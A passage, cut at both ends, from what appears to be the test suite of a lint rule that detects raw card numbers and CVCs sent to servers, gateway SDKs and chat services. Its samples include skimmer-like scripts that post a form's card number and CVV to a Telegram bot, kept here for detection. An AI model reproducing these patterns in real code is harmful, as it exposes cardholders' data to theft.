        // (the bare key with no CVC beside it: reported where its value reads the card number)
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.iugu.com/v1/payment_token', field: 'data.number', what: 'card number (PAN)' }, line: 6, column: 23, endLine: 6, endColumn: 39, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.iugu.com/v1/payment_token', field: 'data.card_number', what: 'card number (PAN)' }, line: 10, column: 55, endLine: 10, endColumn: 66, suggestions: [] },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.iugu.com/v1/payment_token', field: 'data.verification_value', what: 'card security code (CVC)' }, line: 10, column: 86, endLine: 10, endColumn: 104, suggestions: [] },
      ],
    },
    {
      // A Lightning web component sends the card it collects to an Apex method, the org's own server code (real-world
      // batch DQ); a query with other parameters sends none
      code: `import { LightningElement, track } from 'lwc';
import setPayment from '@salesforce/apex/PaymentController.setPayment';
import getOrders from '@salesforce/apex/PaymentController.getOrders';

export default class PaymentMethod extends LightningElement {
  @track cardNumber = '';
  @track cvv = '';
  @track holder = '';

  handleChange(event) {
    this[event.target.name] = event.target.value;
  }

  async handlePay() {
    const creditCardData = { cardHolder: this.holder, cardNumber: this.cardNumber, cvv: this.cvv };
    await setPayment({ creditCardData });
    await getOrders({ limitSize: 10 });
  }
}
`,
      filename: 'force-app/main/default/lwc/paymentMethod/paymentMethod.js',
      output: null,
      errors: [
        {
          messageId: 'rawCardToOwnServer', data: { client: 'Apex', endpoint: "the method 'PaymentController.setPayment'", field: 'creditCardData.cardNumber', what: 'card number (PAN)' }, line: 15, column: 55, endLine: 15, endColumn: 65,
          suggestions: [],
        },
        {
          messageId: 'rawCardToOwnServer', data: { client: 'Apex', endpoint: "the method 'PaymentController.setPayment'", field: 'creditCardData.cvv', what: 'card security code (CVC)' }, line: 15, column: 84, endLine: 15, endColumn: 87,
          suggestions: [],
        },
      ],
    },
    {
      // An Iyzico back end takes the card fields of its own form and hands them to the gateway's SDK (real-world batch DI):
      // the server holds the raw card; a lookup by id sends none
      code: `const Iyzipay = require('iyzipay');
const express = require('express');

const iyzipay = new Iyzipay({
  apiKey: process.env.IYZICO_API_KEY,
  secretKey: process.env.IYZICO_SECRET_KEY,
  uri: 'https://sandbox-api.iyzipay.com',
});
const router = express.Router();

router.post('/odeme', (req, res) => {
  const { kartSahibi, kartNumarasi, sonKullanmaAy, sonKullanmaYil, cvc } = req.body;
  const request = {
    locale: Iyzipay.LOCALE.TR,
    price: req.body.tutar,
    paidPrice: req.body.tutar,
    currency: Iyzipay.CURRENCY.TRY,
    paymentCard: {
      cardHolderName: kartSahibi,
      cardNumber: kartNumarasi,
      expireMonth: sonKullanmaAy,
      expireYear: sonKullanmaYil,
      cvc,
      registerCard: '0',
    },
  };
  iyzipay.payment.create(request, (err, result) => {
    if (err) return res.status(500).json(err);
    res.json({ status: result.status });
  });
});

router.get('/odeme/:id', (req, res) => {
  iyzipay.payment.retrieve({ locale: Iyzipay.LOCALE.TR, paymentId: req.params.id }, (err, result) => res.json(result));
});

module.exports = router;
`,
      filename: 'src/routes/odeme.js',
      output: null,
      errors: [
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Iyzico (iyzipay)', method: 'payment.create', field: 'paymentCard.cardNumber', what: 'card number (PAN)' }, line: 20, column: 7, endLine: 20, endColumn: 17,
          suggestions: [],
        },
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Iyzico (iyzipay)', method: 'payment.create', field: 'paymentCard.cvc', what: 'card security code (CVC)' }, line: 23, column: 7, endLine: 23, endColumn: 10,
          suggestions: [],
        },
      ],
    },
    {
      // Braintree's and Adyen's server SDKs given raw card fields (a card vaulted, unencrypted fields in a payment);
      // Braintree's nonce, Mercado Pago's token and a lookup carry no card
      code: `import braintree from 'braintree';
import { Client, CheckoutAPI } from '@adyen/api-library';
import { MercadoPagoConfig, Payment } from 'mercadopago';

const gateway = new braintree.BraintreeGateway({
  environment: braintree.Environment.Sandbox,
  merchantId: process.env.BT_MERCHANT_ID!,
  publicKey: process.env.BT_PUBLIC_KEY!,
  privateKey: process.env.BT_PRIVATE_KEY!,
});
const checkout = new CheckoutAPI(new Client({ apiKey: process.env.ADYEN_API_KEY!, environment: 'TEST' }));
const payments = new Payment(new MercadoPagoConfig({ accessToken: process.env.MP_ACCESS_TOKEN! }));

export async function saveCard(customerId: string, card: { number: string; cvv: string; expirationDate: string }) {
  return gateway.creditCard.create({ customerId, number: card.number, cvv: card.cvv, expirationDate: card.expirationDate });
}

export async function charge(body: { amount: string; card: { number: string; cvv: string }; nonce: string; token: string }) {
  await gateway.transaction.sale({ amount: body.amount, paymentMethodNonce: body.nonce, options: { submitForSettlement: true } });
  await checkout.PaymentsApi.payments({ amount: { currency: 'EUR', value: 1000 }, paymentMethod: { type: 'scheme', number: body.card.number, cvc: body.card.cvv }, reference: 'order', merchantAccount: 'Shop' });
  await payments.create({ body: { transaction_amount: 10, token: body.token, installments: 1, payer: { email: 'a@b.c' } } });
  await gateway.transaction.find(body.nonce);
}
`,
      filename: 'src/payments/gateways.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Braintree (braintree)', method: 'creditCard.create', field: 'number', what: 'card number (PAN)' }, line: 15, column: 50, endLine: 15, endColumn: 56,
          suggestions: [],
        },
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Braintree (braintree)', method: 'creditCard.create', field: 'cvv', what: 'card security code (CVC)' }, line: 15, column: 71, endLine: 15, endColumn: 74,
          suggestions: [],
        },
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Adyen (@adyen/api-library)', method: 'PaymentsApi.payments', field: 'paymentMethod.number', what: 'card number (PAN)' }, line: 20, column: 116, endLine: 20, endColumn: 122,
          suggestions: [],
        },
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Adyen (@adyen/api-library)', method: 'PaymentsApi.payments', field: 'paymentMethod.cvc', what: 'card security code (CVC)' }, line: 20, column: 142, endLine: 20, endColumn: 145,
          suggestions: [],
        },
      ],
    },
    {
      // Checkout.com's Node SDK given a raw card source; a token source carries none (real-world batch DV)
      code: `import { Checkout } from 'checkout-sdk-node';

const cko = new Checkout(process.env.CKO_SECRET_KEY!);

export async function pay(card: { number: string; month: number; year: number; cvv: string }, amount: number) {
  return cko.payments.request({
    source: { type: 'card', number: card.number, expiry_month: card.month, expiry_year: card.year, cvv: card.cvv },
    currency: 'EUR',
    amount,
  });
}

export async function payWithToken(token: string, amount: number) {
  return cko.payments.request({ source: { type: 'token', token }, currency: 'EUR', amount });
}
`,
      filename: 'src/payments/checkout-com.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Checkout.com (checkout-sdk-node)', method: 'payments.request', field: 'source.number', what: 'card number (PAN)' }, line: 7, column: 29, endLine: 7, endColumn: 35,
          suggestions: [],
        },
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Checkout.com (checkout-sdk-node)', method: 'payments.request', field: 'source.cvv', what: 'card security code (CVC)' }, line: 7, column: 100, endLine: 7, endColumn: 103,
          suggestions: [],
        },
      ],
    },
    {
      // Authorize.net's JSON API called directly: its card object names the CVV \`cardCode\` (real-world batch DV)
      code: `const axios = require('axios');
async function charge(card, amount) {
  const body = {
    createTransactionRequest: {
      merchantAuthentication: { name: process.env.ANET_LOGIN, transactionKey: process.env.ANET_KEY },
      transactionRequest: {
        transactionType: 'authCaptureTransaction',
        amount,
        payment: { creditCard: { cardNumber: card.number, expirationDate: card.expiry, cardCode: card.code } },
      },
    },
  };
  return axios.post('https://api.authorize.net/xml/v1/request.api', body);
}
module.exports = { charge };
`,
      filename: 'lib/anet.js',
      output: null,
      errors: [
        {
          messageId: 'rawCardToOwnServer',
          data: { client: 'axios', endpoint: 'POST api.authorize.net/xml/v1/request.api', field: 'createTransactionRequest.transactionRequest.payment.creditCard.cardNumber', what: 'card number (PAN)' },
          line: 9, column: 34, endLine: 9, endColumn: 44,
          suggestions: [],
        },
        {
          messageId: 'rawCardToOwnServer',
          data: { client: 'axios', endpoint: 'POST api.authorize.net/xml/v1/request.api', field: 'createTransactionRequest.transactionRequest.payment.creditCard.cardCode', what: 'card security code (CVC)' },
          line: 9, column: 88, endLine: 9, endColumn: 96,
          suggestions: [],
        },
      ],
    },
    {
      // Authorize.net's setCardCode in a file that spells no other card name: the card-name prefilter reads \`cardCode\`
      // (a CVC in card context) once the file names a card (\`CreditCardType\`)
      code: `
const { APIContracts } = require('authorizenet');

function cardCodeFor(code) {
  const creditCard = new APIContracts.CreditCardType();
  creditCard.setCardCode(code);
  return creditCard;
}
module.exports = { cardCodeFor };
`,
      filename: 'lib/anet/card-code.js',
      output: null,
      errors: [
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Authorize.net (authorizenet)', method: 'creditCard.setCardCode', field: 'cardCode', what: 'card security code (CVC)' }, line: 6, column: 26, endLine: 6, endColumn: 30,
          suggestions: [],
        },
      ],
    },
    {
      // Authorize.net's Node SDK builds its request from setters: the card number and code set on a CreditCardType
      // are sent by createTransactionRequest; a refund's last four digits and the expiry are no card data
      code: `import { APIContracts, APIControllers } from 'authorizenet';

export function chargeCard(order: { total: number }, card: { number: string; expiry: string; code: string }) {
  const auth = new APIContracts.MerchantAuthenticationType();
  auth.setName(process.env.ANET_LOGIN_ID!);
  auth.setTransactionKey(process.env.ANET_TRANSACTION_KEY!);

  const creditCard = new APIContracts.CreditCardType();
  creditCard.setCardNumber(card.number);
  creditCard.setExpirationDate(card.expiry);
  creditCard.setCardCode(card.code);
  const payment = new APIContracts.PaymentType();
  payment.setCreditCard(creditCard);

  const transaction = new APIContracts.TransactionRequestType();
  transaction.setTransactionType(APIContracts.TransactionTypeEnum.AUTHCAPTURETRANSACTION);
  transaction.setPayment(payment);
  transaction.setAmount(order.total);
  const request = new APIContracts.CreateTransactionRequest();
  request.setMerchantAuthentication(auth);
  request.setTransactionRequest(transaction);
  return new APIControllers.CreateTransactionController(request.getJSON());
}

export function refundCard(last4: string) {
  const creditCard = new APIContracts.CreditCardType();
  creditCard.setCardNumber(last4);
  creditCard.setExpirationDate('XXXX');
  return creditCard;
}
`,
      filename: 'src/payments/authorize-net.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Authorize.net (authorizenet)', method: 'creditCard.setCardNumber', field: 'cardNumber', what: 'card number (PAN)' }, line: 9, column: 28, endLine: 9, endColumn: 39,
          suggestions: [],
        },
        {
          messageId: 'rawCardToGateway', data: { sdk: 'Authorize.net (authorizenet)', method: 'creditCard.setCardCode', field: 'cardCode', what: 'card security code (CVC)' }, line: 11, column: 26, endLine: 11, endColumn: 35,
          suggestions: [],
        },
      ],
    },
    {
      // A whole request body posted as a message's text, in a handler that reads its card's CVC (real-world batch 94)
      code: `
export async function POST(request: Request) {
  const body = await request.json();
  if (!body.card?.cvc) return new Response('card required', { status: 400 });
  await fetch(process.env.ORDERS_WEBHOOK!, { method: 'POST', body: JSON.stringify({ text: \`New order: \${JSON.stringify(body)}\` }) });
  return Response.json({ ok: true });
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToOwnServer',
          data: { client: 'fetch', endpoint: 'POST a URL computed at run time', what: 'card security code (CVC)', field: 'text' },
          line: 5,
          column: 91,
          endLine: 5,
          endColumn: 127,
        },
      ],
    },
    {
      // A mobx-state-tree payment model posts itself, its snapshot the card's properties (real-world recall probe B,
      // 2026-12-07: a chat widget's payment form)
      code: `import axios from 'axios';
import { types } from 'mobx-state-tree';

export const Payment = types
  .model('Payment', {
    billingAddress: types.string,
    ccNumber: types.string,
    ccMonth: types.string,
    ccYear: types.string,
    ccCvv: types.string,
  })
  .actions((self) => ({
    setField(name, value) {
      self[name] = value;
    },
    submit() {
      return axios.post('https://payments.example.com/charge', self);
    },
  }));
`,
      filename: 'src/store/payment.model.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToOwnServer',
          data: { client: 'axios', endpoint: 'POST payments.example.com/charge', what: 'card number (PAN) and card security code (CVC)', field: 'ccNumber, ccCvv' },
          line: 17,
          column: 64,
          endLine: 17,
          endColumn: 68,
        },
      ],
    },
    {
      // A checkout microservice publishes the card it took to the payment service over NATS Streaming and JetStream,
      // which keep the messages (real-world recall probe B, 2026-12-07); core NATS's ping keeps none
      code: `import nats from 'node-nats-streaming';
import { connect, JSONCodec } from 'nats';
import express from 'express';

const stan = nats.connect('payments', 'checkout-1', { url: process.env.NATS_URL });
const router = express.Router();

router.post('/api/pay', async (req, res) => {
  const { pan, CVC, month, year, orderId } = req.body;
  stan.publish('payment:requested', JSON.stringify({ orderId, pan, month, year }), () => res.status(202).end());
  const nc = await connect({ servers: process.env.NATS_URL });
  await nc.jetstream().publish('payments.cvc', JSONCodec().encode({ orderId, cvc: CVC }));
  nc.publish('payments.ping', JSONCodec().encode({ orderId }));
});

export default router;
`,
      filename: 'checkout/src/routes/pay.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardInMessage',
          data: { service: 'NATS Streaming', method: 'publish', field: 'pan', what: 'card number (PAN)' },
          line: 10,
          column: 63,
          endLine: 10,
          endColumn: 66,
        },
        {
          messageId: 'rawCardInMessage',
          data: { service: 'NATS JetStream', method: 'publish', field: 'cvc', what: 'card security code (CVC)' },
          line: 12,
          column: 78,
          endLine: 12,
          endColumn: 81,
        },
      ],
    },
    {
      // A shop's server forwards the card to the owner's Telegram chat (real-world batch 92); the customer's e-mail
      // names the card by its last four digits only
      code: `const express = require('express');
const TelegramBot = require('node-telegram-bot-api');
const nodemailer = require('nodemailer');

const bot = new TelegramBot(process.env.BOT_TOKEN, { polling: false });
const mailer = nodemailer.createTransport({ host: process.env.SMTP_HOST, port: 587 });
const app = express();
app.use(express.json());

app.post('/api/order', async (req, res) => {
  const { name, email, cardNumber, cvc, expiry, total } = req.body;
  await bot.sendMessage(process.env.ADMIN_CHAT, \`New order from \${name}: \${total} EUR\\nCard: \${cardNumber} \${expiry} \${cvc}\`);
  await mailer.sendMail({
    to: email,
    subject: 'Your order',
    text: \`Thanks \${name}! We charged \${total} EUR to your card ending \${cardNumber.slice(-4)}.\`,
  });
  res.json({ ok: true });
});

module.exports = app;
`,
      filename: 'server/routes/order.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardInMessage',
          data: { service: 'node-telegram-bot-api (Telegram)', method: 'sendMessage', field: 'text', what: 'card number (PAN)' },
          line: 12,
          column: 96,
          endLine: 12,
          endColumn: 106,
        },
        {
          messageId: 'rawCardInMessage',
          data: { service: 'node-telegram-bot-api (Telegram)', method: 'sendMessage', field: 'text', what: 'card security code (CVC)' },
          line: 12,
          column: 120,
          endLine: 12,
          endColumn: 123,
        },
      ],
    },
    {
      // A card form's script that posts the card as a chat message's text (real-world batch 92: pages that send cards
      // to a Telegram chat); a note with the card's last four digits is no card data
      code: `const TOKEN = '123456:ABC';
const CHAT_ID = '-100200300';

document.querySelector('#pay').addEventListener('submit', async (event) => {
  event.preventDefault();
  const cardNumber = document.getElementById('card-number').value;
  const cvv = document.getElementById('cvv').value;
  const message = \`New order\\nCard: \${cardNumber}\\nCVV: \${cvv}\`;
  await fetch(\`https://api.telegram.org/bot\${TOKEN}/sendMessage\`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ chat_id: CHAT_ID, text: message, parse_mode: 'HTML' }),
  });
  await fetch('/api/orders', { method: 'POST', body: JSON.stringify({ note: \`Order for card ending \${cardNumber.slice(-4)}\` }) });
});
`,
      filename: 'public/js/checkout.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToOwnServer',
          data: { client: 'fetch', endpoint: 'POST api.telegram.org/bot123456:ABC/sendMessage', what: 'card security code (CVC) and card number (PAN)', field: 'text' },
          line: 12,
          column: 52,
          endLine: 12,
          endColumn: 59,
        },
      ],
    },
    {
      // An HTTP client instance the app exports from its own module, by the module's or the import's name (real-world
      // batch 98); an Express router's route is no request
      code: `import { useMutation } from '@tanstack/react-query';
import api from '@/lib/client';
import { router } from '@/server/router';
import { requireAuth } from '@/lib/auth';

interface PaymentData {
  courseId: string;
  cardNumber: string;
  cvv: string;
  expiry: string;
}

export function usePayCourse() {
  return useMutation({ mutationFn: (payment: PaymentData) => api.post('/payments', payment) });
}

export const refund = (id: string) => api.post(\`/payments/\${id}/refund\`, { reason: 'requested_by_customer' });
router.post('/payments', requireAuth, (req: unknown) => req);
`,
      filename: 'src/hooks/usePayCourse.tsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '`api`', endpoint: 'POST /payments', field: 'cardNumber, cvv', what: 'card number (PAN) and card security code (CVC)' }, line: 14, column: 84, endLine: 14, endColumn: 91 },
      ],
    },
    {
      // A key that names a card field only inside a card (\`PAN\`, \`number\`) does not hide a value that is card data by its
      // own name (real-world batch 98: an edge function posting to a gateway); a trading card's number is still none
      code: `export async function authorise(m: { card_pan: string; card_expiry: string; amount: number }) {
  const response = await fetch(Deno.env.get('IVERI_URL')!, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ Version: '2.0', Transaction: { Command: 'Debit', Amount: m.amount, PAN: m.card_pan, ExpiryDate: m.card_expiry } }),
  });
  return response.json();
}

export const lookup = (card: { number: string; rarity: string }) => fetch('/api/cards', { method: 'POST', body: JSON.stringify({ number: card.number, rarity: card.rarity }) });
`,
      filename: 'supabase/functions/iveri/index.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST a URL computed at run time', field: 'Transaction.PAN', what: 'card number (PAN)' }, line: 5, column: 100, endLine: 5, endColumn: 110 },
      ],
    },
    {
      // A request helper that sends a body only when given one (\`...(body && { body })\`): a MOTO payment's card goes
      // through it (real-world batch 99)
      code: `const PROCESSOR_URL = 'https://xpay.nexigroup.com/api/phoenix-0.0/psp/api/v1';

async function processorRequest(path: string, body?: unknown) {
  const response = await fetch(\`\${PROCESSOR_URL}\${path}\`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'X-Api-Key': process.env.NEXI_API_KEY! },
    ...(body && { body: JSON.stringify(body) }),
  });
  return response.json();
}

export async function motoPayment(params: { card_number: string; cvv: string; expiry: string; amount: number }) {
  return processorRequest('/orders/moto', { order: { amount: params.amount }, card: { pan: params.card_number, cvv: params.cvv, expiryDate: params.expiry } });
}
`,
      filename: 'src/payments/nexi.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST xpay.nexigroup.com/api/phoenix-0.0/psp/api/v1…', field: 'card.pan', what: 'card number (PAN)' }, line: 13, column: 87, endLine: 13, endColumn: 90 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST xpay.nexigroup.com/api/phoenix-0.0/psp/api/v1…', field: 'card.cvv', what: 'card security code (CVC)' }, line: 13, column: 112, endLine: 13, endColumn: 115 },
      ],
    },
    {
      // An XML / SOAP body's elements are its keys: a MOTO gateway's SOAP request (real-world batch 99)
      code: `export async function motoSale(p: { card_number: string; cvv: string; expiry: string; amount: string }) {
  const xml = \`<?xml version="1.0"?><soap:Envelope><soap:Body><CallPagamS2S><cardNumber>\${p.card_number}</cardNumber><expiry>\${p.expiry}</expiry><cvv>\${p.cvv}</cvv><amount>\${p.amount}</amount></CallPagamS2S></soap:Body></soap:Envelope>\`;
  return fetch('https://ecomms2s.sella.it/gestpay/gestpayws/WSs2s.asmx', { method: 'POST', headers: { 'Content-Type': 'text/xml' }, body: xml });
}
`,
      filename: 'src/payments/axerve.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST ecomms2s.sella.it/gestpay/gestpayws/WSs2s.asmx', field: 'cardNumber', what: 'card number (PAN)' }, line: 2, column: 91, endLine: 2, endColumn: 104 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST ecomms2s.sella.it/gestpay/gestpayws/WSs2s.asmx', field: 'cvv', what: 'card security code (CVC)' }, line: 2, column: 153, endLine: 2, endColumn: 158 },
      ],
    },
    {
      // ...but HTML's text formatting in a chat message names no field: a Telegram bot that sends an Issuing card's
      // number and CVC, each in a \`<code>\` element, is reported for each by its own name (real-world batch 336)
      code: `const axios = require('axios');
const stripe = require('stripe')(process.env.STRIPE_SECRET_KEY);

const sendMessage = (chatId, text) => axios.post(\`https://api.telegram.org/bot\${process.env.BOT_TOKEN}/sendMessage\`, { parse_mode: 'HTML', chat_id: chatId, text });

async function reveal(chatId, cardId) {
  const card = await stripe.issuing.cards.retrieve(cardId, { expand: ['number', 'cvc'] });
  await sendMessage(chatId, \`Card number: <code>\${card.number}</code>\\nExpires: <b>\${card.exp_month}/\${card.exp_year}</b>\\nCVC: <code>\${card.cvc}</code>\`);
}

module.exports = { reveal };
`,
      filename: 'bot/index.js',
      languageOptions: { parser: espree, parserOptions: { sourceType: 'commonjs', ecmaVersion: 'latest' } } as const,
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST api.telegram.org/bot…/sendMessage', field: 'text.card.number', what: 'card number (PAN)' }, line: 8, column: 51, endLine: 8, endColumn: 62 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST api.telegram.org/bot…/sendMessage', field: 'text.card.cvc', what: 'card security code (CVC)' }, line: 8, column: 137, endLine: 8, endColumn: 145 },
      ],
    },
    {
      // Keys a body adds only when a condition holds (\`...(p.cvv ? { cvv } : {})\`) may be sent, and a request whose method
      // is not known is named by its URL alone (real-world batch 101)
      code: `async function send(method: string, path: string, body?: Record<string, unknown>) {
  return fetch(\`https://gw.example.com\${path}\`, { method, ...(body && { body: JSON.stringify(body) }) });
}

export async function moto(p: { card_number: string; expiry: string; cvv?: string }) {
  return send('POST', '/orders/moto', { card: { pan: p.card_number, expiryDate: p.expiry, ...(p.cvv ? { cvv: p.cvv } : {}) } });
}

export const relay = (url: string, verb: string, card: { cardNumber: string; cvv: string }) =>
  fetch(url, { method: verb, body: JSON.stringify({ cardNumber: card.cardNumber, cvv: card.cvv }) });
`,
      filename: 'src/payments/gw.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'https://gw.example.com…', field: 'card.pan', what: 'card number (PAN)' }, line: 6, column: 49, endLine: 6, endColumn: 52 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'https://gw.example.com…', field: 'card.cvv', what: 'card security code (CVC)' }, line: 6, column: 105, endLine: 6, endColumn: 108 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'a URL computed at run time', field: 'cardNumber', what: 'card number (PAN)' }, line: 10, column: 53, endLine: 10, endColumn: 63 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'a URL computed at run time', field: 'cvv', what: 'card security code (CVC)' }, line: 10, column: 82, endLine: 10, endColumn: 85 },
      ],
    },
    {
      // TanStack Query: a mutation function's variables are what the hook's mutate(…) / mutateAsync(…) calls pass
      // (real-world batch 96)
      code: `import { useState } from 'react';
import { useMutation, useQueryClient } from '@tanstack/react-query';
import axios from 'axios';

export function NewCardForm() {
  const queryClient = useQueryClient();
  const [form, setForm] = useState({ name: '', code: '', expiration: '', cvc: '' });
  const createCard = useMutation({
    mutationFn: (values: typeof form) => axios.post('/cards/new', values),
    onSuccess: () => queryClient.invalidateQueries({ queryKey: ['cards'] }),
  });
  const { mutateAsync: removeCard } = useMutation({ mutationFn: (id: string) => axios.delete(\`/cards/\${id}\`) });

  return (
    <form onSubmit={(e) => { e.preventDefault(); createCard.mutate({ name: form.name, cardNumber: form.code, expiration: form.expiration, cvc: form.cvc }); }}>
      <button type="button" onClick={() => removeCard('card_1')}>Remove</button>
    </form>
  );
}
`,
      filename: 'src/components/NewCardForm.tsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /cards/new', field: 'cardNumber', what: 'card number (PAN)' }, line: 15, column: 87, endLine: 15, endColumn: 97 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /cards/new', field: 'cvc', what: 'card security code (CVC)' }, line: 15, column: 139, endLine: 15, endColumn: 142 },
      ],
    },
    {
      // A card number named as one says what the security code beside it is (real-world batch 95: MercadoPago's card
      // token payload, sent from the page)
      code: CARD_TOKEN_REQUEST,
      filename: 'src/lib/mercadopago.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.mercadopago.com/v1/card_tokens', field: 'card_number', what: 'card number (PAN)' }, line: 8, column: 7, endLine: 8, endColumn: 18 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.mercadopago.com/v1/card_tokens', field: 'security_code', what: 'card security code (CVC)' }, line: 9, column: 7, endLine: 9, endColumn: 20 },
      ],
    },
    {
      // A Supabase Edge Function is the app's own server: the card sent in its body passes through it (real-world batch
      // 95: checkout pages of apps made with AI app builders)
      code: `import { useState } from 'react';
import { supabase } from '@/integrations/supabase/client';
import { toast } from 'sonner';

export function CreditCardForm({ orderId }: { orderId: string }) {
  const [form, setForm] = useState({ number: '', name: '', expiry: '', cvc: '' });

  const handleSubmit = async () => {
    const { data, error } = await supabase.functions.invoke('process-card-payment', {
      body: { orderId, cardNumber: form.number.replace(/\\s/g, ''), holder: form.name, expiry: form.expiry, cvv: form.cvc },
    });
    if (error) toast.error(error.message);
    return data;
  };
  const refresh = () => supabase.functions.invoke('order-status', { body: { orderId }, method: 'GET' });
  return <button onClick={handleSubmit} onBlur={refresh}>Pay</button>;
}
`,
      filename: 'src/components/checkout/CreditCardForm.tsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'Supabase', endpoint: "the Edge Function 'process-card-payment'", what: 'card number (PAN)', field: 'cardNumber' }, line: 10, column: 24, endLine: 10, endColumn: 34 },
        { messageId: 'rawCardToOwnServer', data: { client: 'Supabase', endpoint: "the Edge Function 'process-card-payment'", what: 'card security code (CVC)', field: 'cvv' }, line: 10, column: 108, endLine: 10, endColumn: 111 },
      ],
    },
    {
      // Base64 hides nothing: the card under \`data\`, encoded with btoa, is sent as it is (real-world batch 93)
      code: `
type Card = { cardNumber: string; cardCvv: string; expiry: string };

export async function submitOrder(card: Card, amount: number) {
  const payload = btoa(JSON.stringify({ cardNumber: card.cardNumber, cardCvv: card.cardCvv, expiry: card.expiry }));
  await fetch('/api/processing', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ data: payload, amount }) });
}
`,
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/processing', what: 'card number (PAN)', field: 'data.cardNumber' }, line: 5, column: 41, endLine: 5, endColumn: 51 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/processing', what: 'card security code (CVC)', field: 'data.cardCvv' }, line: 5, column: 70, endLine: 5, endColumn: 77 },
      ],
    },
    {
      // The card object built at the click handler and posted by a helper of the same file: reported where it is built.
      code: `function submitPayment(card, amount) {
  return $.ajax({ url: '/api/charge', method: 'POST', data: { card: card, amount: amount } });
}

$('#pay-button').on('click', function () {
  submitPayment(
    {
      number: $('#cc-number').val(),
      cvc: $('#cc-cvc').val(),
      exp: $('#cc-exp').val(),
    },
    Number($('#amount').val()),
  );
});
`,
      filename: 'public/js/checkout.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'jQuery', endpoint: 'POST /api/charge', field: 'card.number', what: 'card number (PAN)' }, line: 8, column: 7, endLine: 8, endColumn: 13 },
        { messageId: 'rawCardToOwnServer', data: { client: 'jQuery', endpoint: 'POST /api/charge', field: 'card.cvc', what: 'card security code (CVC)' }, line: 9, column: 7, endLine: 9, endColumn: 10 },
      ],
    },
    {
      // A helper that sends its data only when there is some (real-world batch EK): the conditional body is read.
      code: `async function callServer(path, data) {
  const res = await fetch(\`/api\${path}\`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: data ? JSON.stringify(data) : '',
  });
  return res.json();
}

export async function pay(form) {
  return callServer('/payments', {
    amount: form.amount,
    card: { number: form.cardNumber, cvc: form.cvc, expMonth: form.expMonth },
  });
}
`,
      filename: 'src/api.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api…', field: 'card.number', what: 'card number (PAN)' }, line: 13, column: 13, endLine: 13, endColumn: 19 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api…', field: 'card.cvc', what: 'card security code (CVC)' }, line: 13, column: 38, endLine: 13, endColumn: 41 },
      ],
    },
    {
      // Mithril's m.request and Backbone.ajax (jQuery's ajax underneath), left for later in the thirty-second session.
      code: `import m from 'mithril';

const PaymentForm = {
  card: { number: '', cvc: '', exp: '' },
  submit(e) {
    e.preventDefault();
    return m.request({
      method: 'POST',
      url: '/api/payments',
      body: { cardNumber: PaymentForm.card.number, cvc: PaymentForm.card.cvc, amount: 1200 },
    });
  },
};

const CheckoutView = Backbone.View.extend({
  events: { 'submit form': 'pay' },
  pay() {
    Backbone.ajax({
      url: '/charges',
      type: 'POST',
      data: { card_number: this.$('#cc').val(), cvv: this.$('#cvv').val() },
    });
  },
});
export { PaymentForm, CheckoutView };
`,
      filename: 'src/checkout.js',
      output: null,
      errors: [
